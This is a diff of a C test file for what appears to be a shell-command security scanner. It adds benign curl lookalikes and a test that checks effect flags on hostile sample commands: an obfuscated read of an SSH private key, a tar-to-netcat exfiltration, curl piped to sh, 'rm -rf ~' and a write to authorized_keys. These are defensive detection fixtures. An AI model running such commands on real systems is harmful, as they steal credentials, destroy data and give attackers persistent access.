@@ -114,6 +114,8 @@ TEST(shell_benign_lookalikes_stay_quiet)
 	    "openssl x509 -in cert.pem -noout -subject 2>/dev/null | head -1",
 	    "echo '{\"a\":1}' | curl -s -d @- https://api.example.com/v1",
 	    "git diff | less",
+	    "curl -s https://api.example.com/v1/x?since=$(date +%s)",
+	    "curl -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user",
 	    "for f in $(ls *.txt); do wc -l \"$f\"; done",
 	    "kill $(lsof -t -i:3000)",
 	    "find . -type f -name '*.py' | xargs grep -l TODO",
@@ -527,6 +529,23 @@ TEST(shell_program_code_arguments)
 	     &f);
 	ASSERT_EQ(f.n, 0);
 	shell_free();
+}
+
+TEST(shell_command_effects_for_other_scanners)
+{
+	ASSERT_EQ(init(), 0);
+	ASSERT_EQ(shell_command_effects("ls -la", 6), 0);
+	ASSERT_TRUE(shell_command_effects("c''at ~/.ssh/id_rsa", 19) & SHELL_FX_CRED_READ);
+	ASSERT_TRUE(shell_command_effects("c''at ~/.ssh/id_rsa", 19) & SHELL_FX_OBFUSCATED);
+	ASSERT_EQ(shell_command_effects("curl https://example.com -o x", 29), SHELL_FX_NET_SEND);
+	ASSERT_TRUE(shell_command_effects("tar c . | nc x 1", 16) & SHELL_FX_EXFIL);
+	ASSERT_TRUE(shell_command_effects("curl x | sh", 11) & SHELL_FX_REMOTE_CODE);
+	ASSERT_TRUE(shell_command_effects("rm -rf ~", 8) & SHELL_FX_DESTROY);
+	ASSERT_TRUE(shell_command_effects("echo k >> ~/.ssh/authorized_keys", 32) &
+		    SHELL_FX_PERSIST);
+	ASSERT_TRUE(shell_command_effects("head notes.txt", 14) & SHELL_FX_FILE_READ);
+	shell_free();
+	ASSERT_EQ(shell_command_effects("rm -rf ~", 8), 0);
 }
 
 TEST(shell_not_initialised_is_silent_not_crashing)
